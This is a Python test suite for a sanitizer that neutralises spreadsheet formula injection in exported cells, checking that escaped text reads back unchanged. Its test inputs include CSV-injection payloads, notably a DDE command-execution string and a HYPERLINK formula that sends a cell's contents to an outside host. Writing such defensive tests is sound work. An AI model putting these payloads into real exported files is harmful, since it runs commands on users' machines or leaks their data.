"""Cells that a spreadsheet would run are made text, and read back as they were."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from anoclust_core.safe_text.cells import original, safe_cell

TEXTS = st.one_of(st.text(max_size=20), st.text("'\"=+-@\t\r\n; a1.,＝＋－＠\u200b", max_size=8))


@given(TEXTS)
@example("'=1+1")
@example("''=1+1")
@example("'-5")
@example("\r")
@example("x;=1;'=2")
def test_every_text_is_read_back(text: str) -> None:
    """Also one that begins with an apostrophe of its own."""
    assert original(safe_cell(text)) == text


@given(TEXTS)
def test_no_cell_is_run(text: str) -> None:
    """Neither by its first sign, nor behind blanks and quotes, nor where a semicolon or tab begins another cell."""
    cell = safe_cell(text)
    assert cell[:1] not in {"\t", "\r", "\n"}
    for part in re.split(r"[;\t\r\n]", cell):
        begin = part.lstrip(" \"'") if not part.startswith("'") else part
        number = re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)(e[+-]?\d+)?|-+|[+-]?(inf|nan)", part, re.IGNORECASE)
        assert number or begin[:1] not in set("=+-@＝＋－＠")


@pytest.mark.parametrize(
    "text",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x?"&A1,"y")',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(A1)",
        ' "=1+1',
        "\ufeff=1",
    ],
)
def test_formulas_become_text(text: str) -> None:
    """Every beginning that OWASP's page on CSV injection names has an apostrophe in front."""
    assert safe_cell(text).startswith("'")
    assert original(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["-0.5", "-1e-7", "+3", "-.5", "-inf", "-", "--", "a=b", "scratch", "it's", "'tis", ""]
)
def test_what_no_spreadsheet_runs_stays(text: str) -> None:
    """Numbers, a dash for nothing, and plain words."""
    assert safe_cell(text) == original(text) == text
